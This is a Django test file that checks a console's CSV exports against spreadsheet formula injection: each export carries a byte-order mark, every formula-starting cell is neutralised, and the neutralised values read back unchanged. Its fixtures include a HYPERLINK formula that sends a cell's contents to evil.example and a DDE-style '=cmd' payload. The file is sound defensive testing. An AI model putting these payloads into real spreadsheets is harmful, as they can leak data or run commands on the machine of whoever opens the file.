"""What the console writes as CSV is safe to open in a spreadsheet: UTF-8 with a byte-order mark,
and no cell that a spreadsheet would run as a formula (console/spreadsheets.py).

Every export the console offers, in the admin and on the command line, is filled with values
that start a formula; the list of exports is checked against the admin's URLs, so that a new
download cannot be added without being checked here.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.test import Client
from django.urls import URLResolver, get_resolver, reverse
from hypothesis import given, settings as hypothesis_settings, strategies as st

from chatbot.models import AutoReply, Skill
from chatbot.transfer import export_csv, read_csv
from console.models import Job, JobItemFailure, JobShard
from console.roles import MARKETING_EDITOR
from console.spreadsheets import FORMULA_STARTS, cell_neutralise, cell_restore, csv_text
from tagging.bulk.audience import audience_from_text
from tests.chatbot.conftest import make_bot
from tests.conftest import PASSWORD
from tests.hostile_files import OPENID
from wecom.models import ChatbotBot

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "'=already quoted",
]


def rows_of(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def hostile_bot() -> ChatbotBot:
    bot = make_bot()
    skill = Skill.objects.create(bot=bot, name="=技能")
    for number, text in enumerate(FORMULAS):
        AutoReply.objects.create(
            skill=skill, title=f"-问题{number}", questions=["=相似", "+另一个"], content=text
        )
    return bot


def logged_in(user: User) -> Client:
    client = Client()
    assert client.login(username=user.username, password=PASSWORD)
    return client


# ---- the writer ---------------------------------------------------------------------------------


@given(st.lists(st.text(max_size=12), min_size=1, max_size=5))
@hypothesis_settings(max_examples=300, deadline=None)
def test_csv_cells_never_start_a_formula_and_read_back_to_the_same_text(cells):
    rows = rows_of(csv_text(["a"] * len(cells), [cells]))
    assert [cell_restore(cell) for cell in rows[1]] == cells
    assert not any(cell.startswith(FORMULA_STARTS) for cell in rows[1])


@given(st.text(max_size=30))
@hypothesis_settings(max_examples=500, deadline=None)
def test_neutralising_a_cell_is_undone_exactly(value):
    assert cell_restore(cell_neutralise(value)) == value
    assert not cell_neutralise(value).startswith(FORMULA_STARTS)


def test_the_chatbot_export_writes_no_formula_and_imports_back_unchanged(db):
    exported = export_csv(bot=hostile_bot())
    for row in rows_of(exported):
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row
    records = read_csv(exported.encode("utf-8"))
    by_title = {record["title"]: record for record in records}
    for number, text in enumerate(FORMULAS):
        record = by_title[f"-问题{number}"]
        assert record["skillname"] == "=技能"
        assert record["content"] == text
        assert record["questions"] == ["=相似", "+另一个"]


def test_a_refused_line_that_looks_like_a_formula_is_neutralised_in_the_download(make_user):
    editor = make_user("csv-editor", role=MARKETING_EDITOR)
    audience = audience_from_text(text=f"{OPENID}\n=cmd|'/Ccalc'!A0\n@SUM(1)", user=editor)
    response = logged_in(editor).get(f"/admin/tagging/bulkaudience/{audience.pk}/refused.csv")
    body = b"".join(response.streaming_content).decode()
    values = [row[1] for row in rows_of(body)][1:]
    assert values == ["'=cmd|'/Ccalc'!A0", "'@SUM(1)"]


# ---- every export -------------------------------------------------------------------------------


def failed_job(user: User) -> Job:
    job = Job.objects.create(kind="tagging.bulk", title="=作业", created_by=user)
    shard = JobShard.objects.create(job=job, index=0, start=0, end=len(FORMULAS), position=0)
    for value in FORMULAS:
        JobItemFailure.objects.create(
            job=job, shard=shard, item=value, reason_code="-1", reason=value
        )
    return job


def download(user: User, url: str) -> str:
    response = logged_in(user).get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    return b"".join(response.streaming_content).decode("utf-8")


def job_failures_page(user: User) -> str:
    return download(user, reverse("admin:console_job_failures", args=[failed_job(user).pk]))


def refused_lines_page(user: User) -> str:
    audience = audience_from_text(text="\n".join([OPENID, *FORMULAS]), user=user)
    return download(user, reverse("admin:tagging_bulk_refused", args=[audience.pk]))


def customer_refused_lines_page(user: User) -> str:
    from django.test import override_settings

    from tagging.customers.audience import customer_audience_from_file
    from wecom.models import WeComApp
    from wecom.sandbox import DEMO, SandboxServer, SandboxState, seed_demo

    app = WeComApp.objects.create(
        name="=企业", corp_id=DEMO.wecom_corp_id, secret=DEMO.wecom_secret
    )
    app = WeComApp.objects.get(pk=app.pk)
    lines = io.StringIO()
    writer = csv.writer(lines)
    writer.writerow(["userid", "external_userid"])
    writer.writerow(["lisi", "wm" + "a" * 30])
    writer.writerows(["lisi", formula] for formula in FORMULAS)
    data = lines.getvalue().encode("utf-8")
    state = SandboxState(seed=5)
    seed_demo(state)
    # Reading a list asks WeCom which members have customer contact.
    with SandboxServer(state=state) as server, override_settings(WECOM_API_BASE=server.wecom_base):
        audience = customer_audience_from_file(
            app=app, stream=io.BytesIO(data), name="=名单.csv", size=len(data), user=user
        )
    return download(user, reverse("admin:tagging_customers_refused", args=[audience.pk]))


def chatbot_export_page(user: User) -> str:
    url = reverse("admin:chatbot_autoreply_export")
    return download(user, f"{url}?bot={hostile_bot().pk}&format=csv")


def command_output(*args: str) -> str:
    out = io.StringIO()
    call_command(*args, stdout=out)
    return out.getvalue()


def job_failures_command(user: User) -> str:
    return command_output("jobs", "failures", str(failed_job(user).pk))


def chatbot_export_command(user: User) -> str:
    return command_output("skills", "export", "--bot", hostile_bot().name, "--format", "csv")


# The admin's CSV downloads, by URL name; the command line's, by command.
EXPORTS: dict[str, Callable[[User], str]] = {
    "admin:console_job_failures": job_failures_page,
    "admin:tagging_bulk_refused": refused_lines_page,
    "admin:tagging_customers_refused": customer_refused_lines_page,
    "admin:chatbot_autoreply_export": chatbot_export_page,
    "jobs failures": job_failures_command,
    "skills export --format csv": chatbot_export_command,
}


@pytest.mark.parametrize("export", EXPORTS.values(), ids=EXPORTS.keys())
def test_every_csv_export_starts_with_a_bom_and_holds_no_formula(superuser, export):
    rows = rows_of(export(superuser))
    cells = [cell for row in rows[1:] for cell in row]
    assert any(cell.startswith("'") for cell in cells), "the hostile values were exported"
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def _named_routes(patterns: list, prefix: str = "") -> dict[str, str]:
    routes = {}
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            namespace = f"{pattern.namespace}:" if pattern.namespace else ""
            routes.update(_named_routes(pattern.url_patterns, prefix + namespace))
        elif pattern.name:
            routes[prefix + pattern.name] = str(pattern.pattern)
    return routes


def test_every_download_of_the_admin_is_among_the_exports_checked():
    downloads = {
        name
        for name, route in _named_routes(get_resolver().url_patterns).items()
        if name.startswith("admin:") and (".csv" in route or "export" in route)
    }
    assert downloads == {name for name in EXPORTS if name.startswith("admin:")}
